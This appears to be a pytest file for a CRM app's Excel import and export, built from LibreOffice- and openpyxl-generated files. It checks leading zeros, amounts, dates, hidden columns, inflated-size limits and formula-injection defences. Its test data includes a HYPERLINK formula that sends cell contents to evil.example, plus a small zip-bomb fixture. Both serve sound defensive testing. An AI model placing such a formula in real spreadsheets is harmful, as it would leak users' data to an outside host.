"""What real office files do to an import (issue 15): files saved by LibreOffice from CSVs with
Chinese text, leading zeros, ¥ amounts and mixed dates, a hidden column and a filtered row; files
made by openpyxl for the cases LibreOffice cannot produce; exports and error reports read back.

LibreOffice starts once per session: every file below is converted in one ``soffice`` call."""

from __future__ import annotations

import shutil
import subprocess
import zipfile
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from crm_desktop import messages
from crm_desktop.excel import cells, source
from crm_desktop.excel.export import write_table
from crm_desktop.excel.importer import ImportColumn, ImportFileError, ImportSpec, read_workbook
from crm_desktop.excel.report import write_error_report
from crm_desktop.excel.template import write_template
from crm_desktop.services.customer_import import CustomerImportSpec

CSV_FILES = {
    # Numbers typed where text belongs, as LibreOffice reads a CSV: 02083334444 → 2083334444, the
    # postcode 010010 → 10010, the ID number → 4.40106199001011E+17; phone punctuation and
    # full-width forms as people type them.
    "customers": [
        "客户名称,电话,手机,邮编,电子邮件,备注",
        "北斗广告有限公司,02083334444,13800138000,010010,,440106199001011234",
        "上海宏达,(021)58889999,138-0013-9000,200001,,",
        "全角公司,０２０－８８８８６６６６,１３７００１３７０００,,ｓａｌｅｓ＠ｅｘａｍｐｌｅ．ｃｎ,",
    ],
    # codes with leading zeros, ¥ amounts and three ways of writing a date
    "things": [
        "编码,名称,价格,日期",
        "000777,螺丝,\"¥8,999\",2013/3/8",
        "000778,螺母,8999元,2013-03-09",
        "000779,垫片,约5000,2013年3月10日",
        "000780,弹簧,-100,2013.3.11",
    ],
}

# A flat ODF sheet: LibreOffice converts it like the CSVs, with column B hidden and row 3 filtered
# out.  The hidden column's header repeats the visible one's.
FODS = """<?xml version="1.0" encoding="UTF-8"?>
<office:document xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"
 xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0"
 xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2"
 office:mimetype="application/vnd.oasis.opendocument.spreadsheet">
<office:body><office:spreadsheet><table:table table:name="客户">
<table:table-column/><table:table-column table:visibility="collapse"/><table:table-column/>
{rows}
</table:table></office:spreadsheet></office:body></office:document>
"""


def _fods_row(values, visibility=None):
    cells_xml = "".join(f'<table:table-cell office:value-type="string"><text:p>{v}</text:p></table:table-cell>'
                        for v in values)
    attribute = f' table:visibility="{visibility}"' if visibility else ""
    return f"<table:table-row{attribute}>{cells_xml}</table:table-row>"


@pytest.fixture(scope="session")
def office_files(tmp_path_factory) -> dict[str, Path]:
    soffice = shutil.which("soffice") or shutil.which("libreoffice")
    if soffice is None:
        pytest.fail("LibreOffice is missing: installers/debian-packages test installs libreoffice-calc-nogui")
    folder = tmp_path_factory.mktemp("office")
    inputs = []
    for name, lines in CSV_FILES.items():
        (folder / f"{name}.csv").write_text("\n".join(lines) + "\n", encoding="utf-8")
        inputs.append(folder / f"{name}.csv")
    rows = [_fods_row(["客户名称", "电话", "电话"]), _fods_row(["看得见", "隐藏列的值", "020-88886666"]),
            _fods_row(["筛选掉的", "x", "020-88886667"], "filter")]
    (folder / "hidden.fods").write_text(FODS.format(rows="\n".join(rows)), encoding="utf-8")
    inputs.append(folder / "hidden.fods")
    out = folder / "xlsx"
    subprocess.run([soffice, "--headless", f"-env:UserInstallation=file://{folder}/profile",
                    "--infilter=CSV:44,34,76,1", "--convert-to", "xlsx", "--outdir", str(out),
                    *map(str, inputs)], check=True, capture_output=True, timeout=120)
    files = {p.stem: out / f"{p.stem}.xlsx" for p in inputs}
    assert all(p.is_file() for p in files.values()), list(out.iterdir())
    return files


@pytest.fixture(autouse=True)
def chinese():
    messages.set_language("zh_CN")


class ThingSpec(ImportSpec):
    title = "物品"
    columns = (ImportColumn("编码", "code", required=True), ImportColumn("名称", "name"),
               ImportColumn("价格", "price", parse=cells.decimal()),
               ImportColumn("日期", "day", parse=cells.date_value()))


def _sentences(row) -> list[str]:
    return [str(m) for m in (*row.errors, *row.notes)]


# -- item 1: numbers typed into text columns ----------------------------------------------------
def test_the_templates_text_columns_are_formatted_as_text(tmp_path):
    sheet = load_workbook(write_template(CustomerImportSpec(), tmp_path / "t.xlsx")).active
    headers = {c.value.rstrip("*"): c.column_letter for c in sheet[1]}
    for header in ("客户名称", "电话", "手机", "邮编", "备注", "客户编号"):
        assert sheet.column_dimensions[headers[header]].number_format == "@", header
    assert sheet[f"{headers['电话']}2"].value == "020-88886666" and sheet[f"{headers['电话']}2"].number_format == "@"


def test_numbers_libreoffice_made_of_phones_postcodes_and_ids_are_refused_or_warned(office_files):
    rows = read_workbook(office_files["customers"], CustomerImportSpec()).rows
    beidou, shanghai, full_width = rows
    assert _sentences(beidou) == [
        "“电话”的号码“2083334444”缺少区号前的 0（单元格被当作数字，开头的 0 已丢失）。请把该列设为文本格式，填写 02083334444。",
        "“邮编”的邮编“10010”少于 6 位（单元格被当作数字，开头的 0 已丢失）。请把该列设为文本格式，填写 010010。",
        "“备注”的值“440106199001011000”是数字格式，超过 15 位的部分已被 Excel 改变（如身份证号的末几位）。"
        "请把该列设为文本格式后重新填写。"]
    assert beidou.values["mobile"] == "13800138000"  # a mobile as a number loses nothing
    # item 7: common phone punctuation and full-width forms are understood
    assert shanghai.ok and (shanghai.values["phone"], shanghai.values["mobile"]) == ("021-58889999", "13800139000")
    assert full_width.ok and (full_width.values["phone"], full_width.values["mobile"], full_width.values["email"]) == (
        "020-88886666", "13700137000", "sales@example.cn")


def test_a_zero_padded_number_is_read_as_the_text_shown(tmp_path):
    wb = Workbook()
    wb.active.append(["编码", "名称"])
    wb.active.append([777, "螺丝"])
    wb.active["A2"].number_format = "000000"
    wb.active.append([778, "螺母"])
    wb.save(tmp_path / "padded.xlsx")
    padded, plain = read_workbook(tmp_path / "padded.xlsx", ThingSpec()).rows
    assert padded.values["code"] == "000777" and not padded.notes
    assert plain.values["code"] == "778" and [n.key for n in plain.notes] == ["import_number_in_text_column"]


# -- item 3: money that is not a clean number ---------------------------------------------------
def test_libreoffice_amounts_and_dates_are_read_or_refused_never_zeroed(office_files):
    rows = read_workbook(office_files["things"], ThingSpec()).rows
    assert [r.values.get("price") for r in rows] == [Decimal("8999.00"), Decimal("8999.00"), None, None]
    assert [str(r.values.get("day")) for r in rows] == ["2013-03-08", "2013-03-09", "2013-03-10", "2013-03-11"]
    assert [e.key for e in rows[2].errors] == ["field_amount_invalid"]
    assert [str(e) for e in rows[3].errors] == ["“价格”不能为负数：-100。"]
    assert [n.key for n in rows[0].notes] == ["import_number_in_text_column"]  # 000777 became 777


# -- item 4: formula injection in every export ---------------------------------------------------
HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "+1+2", "-2+3", "@SUM(A1)"]


def _assert_text_cells(path: Path) -> None:
    with zipfile.ZipFile(path) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
        assert not any(b"<f>" in archive.read(n) or b"<f " in archive.read(n) for n in sheets)
    values = {c.value: c for row in load_workbook(path).active.iter_rows() for c in row}
    for text in HOSTILE:
        assert values[text].data_type == "s" and values[text].quotePrefix, text


def test_text_that_looks_like_a_formula_is_exported_as_text(tmp_path):
    write_table(tmp_path / "e.xlsx", ["名称"], [[t] for t in HOSTILE])
    _assert_text_cells(tmp_path / "e.xlsx")


def test_the_error_report_writes_formula_like_cells_as_text(tmp_path):
    write_table(tmp_path / "in.xlsx", ["编码", "名称", "价格"], [[t, t, "不是数字"] for t in HOSTILE])
    preview = read_workbook(tmp_path / "in.xlsx", ThingSpec())
    assert write_error_report(preview, tmp_path / "report.xlsx") == len(HOSTILE)
    _assert_text_cells(tmp_path / "report.xlsx")


def test_the_customer_export_writes_a_hostile_name_as_text(tmp_path, admin_db, unique):
    from crm_desktop.services import customer as svc
    from crm_desktop.services.customer_list import CustomerFilter, CustomerPageSource, export_customers

    for text in HOSTILE:
        svc.create_customer(admin_db, {"name": f"{text}{unique}", "is_private": False})
    out = tmp_path / "customers.xlsx"
    export_customers(CustomerPageSource(admin_db, CustomerFilter(text=unique)), out)
    names = [c.value for row in load_workbook(out).active.iter_rows(min_row=2) for c in row
             if isinstance(c.value, str) and c.value.endswith(unique)]
    assert sorted(names) == sorted(f"{t}{unique}" for t in HOSTILE)
    with zipfile.ZipFile(out) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")


# -- item 5: hidden columns and rows, repeated headers -------------------------------------------
def test_a_hidden_column_is_ignored_and_a_filtered_row_imported_with_a_warning(office_files):
    preview = read_workbook(office_files["hidden"], CustomerImportSpec())
    assert [str(n) for n in preview.notes] == ["以下隐藏的列没有导入：电话。",
                                               "文件中有 1 个隐藏（或被筛选掉）的行，也将导入，已标为黄色。"]
    visible, filtered = preview.rows
    assert visible.ok and visible.values["phone"] == "020-88886666" and not visible.notes
    assert filtered.ok and filtered.values["phone"] == "020-88886667"
    assert [n.key for n in filtered.notes] == ["import_row_hidden"]


def test_two_visible_columns_with_one_header_are_refused_naming_both(tmp_path):
    wb = Workbook()
    wb.active.append(["编码", "名称", "名称 *"])
    wb.active.append(["A1", "甲", "乙"])
    wb.save(tmp_path / "twice.xlsx")
    with pytest.raises(ImportFileError) as refused:
        read_workbook(tmp_path / "twice.xlsx", ThingSpec())
    assert str(refused.value) == ("文件中有两列都是“名称”：B 列“名称”和 C 列“名称 *”。请删除或改名其中一列。")


# -- item 6: a bound on the inflated size --------------------------------------------------------
def test_a_workbook_that_inflates_past_the_bound_is_refused_before_parsing(tmp_path, monkeypatch):
    wb = Workbook()
    wb.active.append(["编码", "名称"])
    wb.active.append(["A1", "甲"])
    wb.save(tmp_path / "bomb.xlsx")
    with zipfile.ZipFile(tmp_path / "bomb.xlsx", "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/sharedStrings.xml", b"<sst>" + b" " * (3 * 1024 * 1024) + b"</sst>")
    monkeypatch.setattr(source, "MAX_SHARED_STRINGS_BYTES", 2 * 1024 * 1024)
    assert (tmp_path / "bomb.xlsx").stat().st_size < 100_000
    with pytest.raises(ImportFileError) as refused:
        read_workbook(tmp_path / "bomb.xlsx", ThingSpec())
    assert refused.value.key == "import_file_too_large_unpacked"
    assert str(refused.value).startswith("文件“bomb.xlsx”解压后超过 512 MB")


# -- item 7: other spreadsheet formats say what they are ------------------------------------------
def _ods(path: Path) -> Path:
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
        archive.writestr("content.xml", "<office:document-content/>")
    return path


def _xlsb(path: Path) -> Path:
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/workbook.bin", b"\x83\x01")
    return path


def _et(path: Path) -> Path:
    path.write_bytes(source.OLE_MAGIC + b"\0" * 1024)
    return path


@pytest.mark.parametrize("make, name, key, advice", [
    (_ods, "客户.ods", "import_file_ods_unsupported", "Excel 2007-365 (.xlsx)"),
    (_xlsb, "客户.xlsb", "import_file_xlsb_unsupported", "Excel 工作簿 (*.xlsx)"),
    (_et, "客户.et", "import_file_et_unsupported", "Excel 文件 (*.xlsx)"),
])
def test_other_spreadsheet_formats_say_what_the_file_is_and_what_to_do(tmp_path, make, name, key, advice):
    with pytest.raises(ImportFileError) as refused:
        read_workbook(make(tmp_path / name), ThingSpec())
    assert refused.value.key == key and advice in str(refused.value) and "损坏" not in str(refused.value)


def test_dropping_another_spreadsheet_reaches_the_wizard_to_be_told(tmp_path):
    from PySide6.QtCore import QMimeData, QUrl

    from crm_desktop.ui.common.import_wizard import dropped_excel_path

    for name in ("a.ods", "a.et", "a.xlsb"):
        mime = QMimeData()
        mime.setUrls([QUrl.fromLocalFile(str(tmp_path / name))])
        assert dropped_excel_path(mime) == tmp_path / name


def test_the_kind_and_scope_columns_name_their_choices(tmp_path):
    wb = Workbook()
    wb.active.append(["客户名称", "客户性质", "私有/公共"])
    wb.active.append(["甲公司", "公司", "私人"])
    wb.save(tmp_path / "kind.xlsx")
    row = read_workbook(tmp_path / "kind.xlsx", CustomerImportSpec()).rows[0]
    assert [str(e) for e in row.errors] == ["“客户性质”只能是：企业、个人；“公司”无效。",
                                            "“私有/公共”只能是：私有、公共；“私人”无效。"]
